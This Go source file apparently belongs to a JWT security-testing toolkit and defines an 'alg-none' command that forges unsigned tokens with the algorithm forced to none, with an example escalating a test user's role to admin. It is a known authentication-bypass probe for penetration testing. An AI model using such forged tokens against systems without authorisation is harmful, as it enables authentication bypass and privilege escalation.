package jwt

import (
	"github.com/urfave/cli"

	"github.com/jwtsec/jwtattack/command"
	"github.com/jwtsec/jwtattack/errs"
	"github.com/jwtsec/jwtattack/flags"
	"github.com/jwtsec/jwtattack/token"
)

func init() {
	command.Register(algNoneCommand())
}

func algNoneCommand() cli.Command {
	return cli.Command{
		Name:   "alg-none",
		Action: cli.ActionFunc(algNoneAction),
		Usage:  "create an unsigned alg:none JWT",
		UsageText: `**jwtattack alg-none** [**--payload**=<json>]
[**--header**=<key=value>] [**--output**=<file>]`,
		Description: `**jwtattack alg-none** builds a token whose header declares **"alg": "none"**
and whose signature segment is empty. Verifiers that accept the none
algorithm will treat such a token as valid without checking any signature,
which makes it a quick probe for that class of vulnerability.

The **alg** header member is always forced to **none**, even if a caller
supplied header sets it to something else.

## EXAMPLES

Probe with an escalated role:
'''
$ jwtattack alg-none --payload '{"user":"testuser","role":"admin"}'
eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJyb2xlIjoiYWRtaW4iLCJ1c2VyIjoidGVzdHVzZXIifQ.
'''`,
		Flags: []cli.Flag{
			flags.Payload,
			flags.Header,
			flags.Output,
			flags.Force,
		},
	}
}

func algNoneAction(ctx *cli.Context) error {
	if err := errs.NumberOfArguments(ctx, 0); err != nil {
		return err
	}

	payload, err := readPayload(ctx)
	if err != nil {
		return err
	}
	header, err := parseHeader(ctx.StringSlice("header"))
	if err != nil {
		return err
	}

	tok, err := token.Unsigned(payload, header)
	if err != nil {
		return err
	}
	return writeToken(ctx, tok)
}
